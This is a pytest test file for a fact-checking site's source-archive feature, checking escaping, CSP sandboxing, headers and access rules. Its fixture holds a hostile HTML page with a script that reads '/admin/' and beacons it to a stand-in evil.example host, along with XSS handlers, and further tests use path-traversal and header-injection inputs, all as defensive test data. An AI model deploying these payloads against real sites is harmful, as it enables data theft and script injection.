"""What readers see of the archive: state on the claim page and in the API, the copy itself."""

from __future__ import annotations

import pytest
from django.template.defaultfilters import date as date_filter
from django.test import Client

from claims.models import Claim, ClaimStatus
from tests.archive.helpers import make_pdf, stored_capture

HOSTILE = (
    "<html><head><base href='https://evil.example/'>"
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>"
    "<script>fetch('/admin/').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script>"
    "</head><body onload=\"alert('x')\"><article>"
    "<p>8月份，16-24歲勞動力失業率為18.9%。<img src=x onerror=alert(1)></p>"
    "<p>&lt;script&gt;alert(2)&lt;/script&gt; 在文中照錄。</p>"
    "</article></body></html>"
).encode()


@pytest.fixture
def capture(published_claim, source):
    return stored_capture(source, HOSTILE)


def test_the_claim_page_shows_the_archive_state(client, published_claim, capture):
    body = client.get(f"/claims/{published_claim.public_id}/").content.decode()
    day = date_filter(capture.captured_at, "DATE_FORMAT")  # "Dec. 8, 2026", as the page writes it
    assert f"Our archived copy, captured on {day}" in body
    assert capture.sha256 in body
    assert f'href="/archive/{capture.key}/"' in body
    assert f'href="/archive/{capture.key}/page"' in body
    assert f'href="/archive/{capture.key}.warc.gz"' in body
    assert "(primary source)" in body


def test_the_claim_page_says_plainly_when_there_is_no_copy(client, published_claim):
    body = client.get(f"/claims/{published_claim.public_id}/").content.decode()
    assert "No archived copy of this source yet." in body


def test_it_is_said_in_chinese_too(client, published_claim, capture):
    body = client.get(f"/claims/{published_claim.public_id}/?lang=zh-hant").content.decode()
    assert "我們的存檔副本" in body


def test_the_machine_check_against_the_copy_is_on_the_claim_page(client, published_claim, capture):
    body = client.get(f"/claims/{published_claim.public_id}/").content.decode()
    assert "The excerpt and the figure 18.9% appear in the copy captured on" in body


def test_the_text_page_escapes_the_copy(client, capture):
    response = client.get(f"/archive/{capture.key}/")
    assert response.status_code == 200
    body = response.content.decode()
    assert "16-24歲勞動力失業率為18.9%" in body
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in body
    for trace in ("<script>alert", "onerror=", "onload=", "evil.example"):
        assert trace not in body
    assert response["Content-Security-Policy"].startswith("default-src 'none'")
    assert response["Cache-Control"] == "public, max-age=86400"


def test_the_stored_page_is_sandboxed_with_nothing_allowed_to_run_or_load(client, capture):
    response = client.get(f"/archive/{capture.key}/page")
    assert response.status_code == 200
    assert response.content == HOSTILE
    assert response["Content-Type"] == "text/html; charset=utf-8"
    policy = response["Content-Security-Policy"]
    assert policy.startswith("sandbox;")
    assert "default-src 'none'" in policy and "script-src" not in policy
    assert "allow-scripts" not in policy and "allow-same-origin" not in policy
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["X-Frame-Options"] == "DENY"
    assert response["Referrer-Policy"] == "no-referrer"


def test_a_stored_pdf_is_a_download(client, published_claim, source):
    pdf = stored_capture(source, make_pdf(["18.9%"]), "application/pdf")
    response = client.get(f"/archive/{pdf.key}/page")
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'attachment; filename="{pdf.key}.pdf"'


def test_a_hostile_stored_content_type_does_not_pass_through(client, published_claim, source):
    odd = stored_capture(source, b"<p>x</p>", 'text/html; charset="utf-8\\"; x=<script>"')
    response = client.get(f"/archive/{odd.key}/page")
    assert response["Content-Type"] == "text/html"


def test_the_warc_file_can_be_downloaded(client, capture):
    response = client.get(f"/archive/{capture.key}.warc.gz")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/warc"
    with capture.warc.open("rb") as stream:
        assert response.content == stream.read()


def test_a_copy_of_a_source_no_published_claim_cites_is_not_public(
    client, published_claim, capture, editor
):
    Claim.objects.filter(pk=published_claim.pk).update(status=ClaimStatus.DRAFT)
    for path in (f"/archive/{capture.key}/", f"/archive/{capture.key}/page"):
        assert client.get(path).status_code == 404
    desk = Client()
    desk.force_login(editor)
    response = desk.get(f"/archive/{capture.key}/")
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"


@pytest.mark.parametrize("key", ["nope", "a" * 24, "..%2f..%2fetc"])
def test_an_unknown_copy_is_not_found(db, client, key):
    assert client.get(f"/archive/{key}/").status_code == 404


def test_the_api_gives_each_sources_archive_state(client, published_claim, capture, source):
    data = client.get(f"/api/v1/claims/{published_claim.public_id}/").json()
    archive = data["evidence"][0]["source"]["archive"]
    assert archive["sha256"] == capture.sha256
    assert archive["size"] == len(HOSTILE)
    assert archive["page"] == f"http://testserver/archive/{capture.key}/page"
    assert data["evidence"][0]["source"]["category"] == "primary"
    listed = client.get("/api/v1/claims/").json()["results"][0]["evidence"][0]["source"]
    assert listed["archive"] == archive
    detail = client.get(f"/api/v1/sources/{source.pk}/").json()
    assert detail["archive"] == archive


def test_the_api_says_null_when_there_is_no_copy(client, published_claim):
    data = client.get(f"/api/v1/claims/{published_claim.public_id}/").json()
    assert data["evidence"][0]["source"]["archive"] is None


def test_claimreview_stays_as_it_was(client, published_claim, capture):
    review = client.get(f"/api/v1/claims/{published_claim.public_id}/claimreview/").json()
    assert review["@type"] == "ClaimReview"
    assert "archive" not in str(review).lower() or capture.key not in str(review)


def test_the_methodology_says_what_the_archiver_does(db, client, archive_settings):
    archive_settings.ARCHIVE_MAX_BYTES = 20 * 1024 * 1024
    archive_settings.ARCHIVE_TOTAL_TIMEOUT = 30
    body = client.get("/methodology/").content.decode()
    assert "How we keep our sources" in body
    assert "WARC file, the web-archiving standard (ISO 28500)" in body
    assert "larger than 20 MB or slower than 30 seconds" in body
    chinese = client.get("/methodology/?lang=zh-hant").content.decode()
    assert "我們如何保存資料來源" in chinese and "20 MB" in chinese
